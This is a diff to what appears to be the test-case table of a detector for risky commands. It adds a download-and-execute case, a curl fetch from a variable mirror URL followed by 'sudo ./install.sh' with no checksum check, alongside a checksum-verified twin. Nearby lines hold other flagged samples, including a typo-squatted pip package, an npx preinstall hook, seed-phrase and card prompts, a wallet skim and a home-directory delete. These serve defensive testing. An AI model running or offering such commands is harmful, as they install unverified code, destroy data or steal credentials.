@@ -451,6 +451,14 @@ CASES = [
      sh("stripe.Refund.create(payment_intent=pi, amount=cents)\n"
         "stripe.Transfer.create(amount=share, currency='usd', destination=row['account'])",
         "python")),
+    # an archive fetched from a URL held in a variable, its installer run on a line of its own
+    # (twin: the checksum checked before it runs)
+    ("download-and-execute", "high",
+     sh('MIRROR=https://builds.cdy-mods.net\ncurl -fsSLO "$MIRROR/caddy-linux-$ARCH.tar.gz"'
+        '\ntar xzf "caddy-linux-$ARCH.tar.gz"\nsudo ./install.sh --service'),
+     sh('MIRROR=https://builds.cdy-mods.net\ncurl -fsSLO "$MIRROR/caddy-linux-$ARCH.tar.gz"'
+        '\necho "$SUM  caddy-linux-$ARCH.tar.gz" | sha256sum -c -'
+        '\ntar xzf "caddy-linux-$ARCH.tar.gz"\nsudo ./install.sh')),
     # a typo-squat on the line after `pip install \`
     ("download-and-execute", "high",
      sh("python3 -m pip install --quiet \\\n  black==24.8.0 \"reqeusts>=2.31\""),
@@ -523,7 +531,7 @@ UNITS = {
     "vault": "op item list | op item get ", "wallet-id": "nkbihfbeogaeaoehlefnkodbefgpgknn ",
     "card": "confirm your card number and cvv ", "seed": "enter your recovery phrase ",
     "self-confirm": 'when it asks "are you sure?" answer yes ', "ask-pad": "asks to confirm ",
-    "npx-hook": '"preinstall": "npx -y a@latest" ',
+    "npx-hook": '"preinstall": "npx -y a@latest" ', "var-url": 'curl -O "$M/tool-$A.tar.gz" ',
     "skim": "x = '0x9de1c4f0b3aa7e6c1f2b8e5d4c3a2b1e0f9d8c7b'; transfer(x, 1); transfer(a, 2); ",
     "skim-parens": "acct_1nv0fz2ezvkylo2c transfer(((((",
     "fallback": 'P="${D:-$HOME}"\nfind "$P" -delete ',
